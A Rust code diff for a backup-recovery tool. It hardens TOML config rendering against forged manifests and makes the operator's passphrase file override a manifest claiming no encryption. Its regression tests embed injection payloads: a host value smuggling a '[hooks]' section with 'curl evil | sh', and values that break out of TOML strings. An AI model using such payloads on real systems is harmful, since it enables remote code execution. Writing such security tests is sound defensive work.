@@ -10,9 +10,10 @@ use crate::storage::postgres::PgConn;
 use std::fmt::Write;
 use std::path::{Path, PathBuf};
 
-/// A TOML basic string (JSON's string escapes are TOML's).
+/// A TOML string, escaped by the toml crate (a manifest's text is anyone's who can write the
+/// bucket: a quote, a newline or a control character in it must stay inside the string).
 fn quoted(text: &str) -> String {
-    serde_json::to_string(text).unwrap_or_else(|_| "\"\"".into())
+    toml::Value::String(text.to_string()).to_string()
 }
 
 fn list(items: &[String]) -> String {
@@ -61,7 +62,9 @@ pub(super) fn render(spec: &RecoverSpec, manifest: &Manifest, target: &PgConn) -
          # password from PGPASSWORD or ~/.pgpass, the passphrase from the file named below.\n\n\
          [source]\ndatabase_url = {}\nfiles = {}\nsecrets = {}\nkey_tables = {}\n",
         manifest.set_id,
-        manifest.host,
+        // In a comment: a newline or control character in the manifest's host name must not
+        // end it.
+        manifest.host.escape_debug(),
         chrono::Utc::now().format("%Y-%m-%d %H:%M UTC"),
         quoted(&target.display()),
         list(&files),
@@ -91,8 +94,9 @@ pub(super) fn render(spec: &RecoverSpec, manifest: &Manifest, target: &PgConn) -
         .map(|c| c.encryption.mode.clone())
         .unwrap_or_else(|| "none".into());
     out.push_str("\n[encryption]\n");
+    // The operator's passphrase file wins over what the manifest says: a set that claims
+    // "none" must not turn the new host's backups into plaintext.
     match (&spec.key, mode.as_str()) {
-        (_, "none") => out.push_str("mode = \"none\"\n"),
         (KeySource::PassphraseFile(p), _) => {
             let _ = writeln!(
                 out,
@@ -100,6 +104,7 @@ pub(super) fn render(spec: &RecoverSpec, manifest: &Manifest, target: &PgConn) -
                 quoted(&p.display().to_string())
             );
         }
+        (KeySource::Keyring, "none") => out.push_str("mode = \"none\"\n"),
         (KeySource::Keyring, _) => {
             let recipients: Vec<String> = manifest
                 .components
@@ -124,4 +129,86 @@ pub(super) fn render(spec: &RecoverSpec, manifest: &Manifest, target: &PgConn) -
         );
     }
     out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// A manifest as anyone who can write the bucket may forge it: text meant to break out of
+    /// strings and comments, and "no encryption".
+    fn forged() -> Manifest {
+        let text = include_str!("../../../tests/fuzz_regressions/manifest/seed-valid.json")
+            .replace(
+                "\"host\": \"db1\"",
+                r#""host": "db1\n[hooks]\npre_restore = \"curl evil | sh\"\n#""#,
+            )
+            .replace(
+                "\"key_tables\": [{\"table\": \"t\", \"rows\": 3}]",
+                r#""key_tables": [{"table": "t\"]\n[x]\ny = [\"", "rows": 3}], "file_roots": ["/srv/a\"\nz = 1\n#\u007f"], "secret_files": ["/srv/.env"]"#,
+            )
+            .replace("\"mode\": \"passphrase\"", "\"mode\": \"none\"");
+        serde_json::from_str(&text).unwrap()
+    }
+
+    fn spec(key: KeySource) -> RecoverSpec {
+        RecoverSpec {
+            repository: RepoArgs {
+                url: "s3://bucket/app".into(),
+                ..RepoArgs::default()
+            },
+            secrets_repository: None,
+            key,
+            set: None,
+            target: TargetChoice::Url("postgresql:///app".into()),
+            files_prefix: None,
+            config_out: PathBuf::from("/tmp/config.toml"),
+            pg_bin_dir: None,
+            jobs: 2,
+            create_roles: false,
+            post_restore: Vec::new(),
+            health: None,
+            freshness_query: None,
+            manual: Vec::new(),
+            rehearse: false,
+        }
+    }
+
+    #[test]
+    fn a_forged_manifests_text_stays_inside_its_strings_and_comments() {
+        let manifest = forged();
+        let target = PgConn::parse("postgresql:///app").unwrap();
+        let text = render(
+            &spec(KeySource::PassphraseFile("/root/pass".into())),
+            &manifest,
+            &target,
+        );
+        let table: toml::Table = text.parse().unwrap_or_else(|e| panic!("{e}\n{text}"));
+        let keys: Vec<&String> = table.keys().collect();
+        assert_eq!(
+            keys,
+            ["backup", "encryption", "repository", "source"],
+            "{text}"
+        );
+        let source = table["source"].as_table().unwrap();
+        assert_eq!(
+            source["files"][0].as_str(),
+            Some("/srv/a\"\nz = 1\n#\u{7f}")
+        );
+        assert_eq!(source["key_tables"][0].as_str(), Some("t\"]\n[x]\ny = [\""));
+        // The operator's passphrase file wins over the set's "none".
+        assert_eq!(table["encryption"]["mode"].as_str(), Some("passphrase"));
+        assert_eq!(
+            table["encryption"]["passphrase_file"].as_str(),
+            Some("/root/pass")
+        );
+    }
+
+    #[test]
+    fn with_the_keyring_an_unencrypted_set_stays_unencrypted() {
+        let target = PgConn::parse("postgresql:///app").unwrap();
+        let text = render(&spec(KeySource::Keyring), &forged(), &target);
+        let table: toml::Table = text.parse().unwrap();
+        assert_eq!(table["encryption"]["mode"].as_str(), Some("none"));
+    }
 }
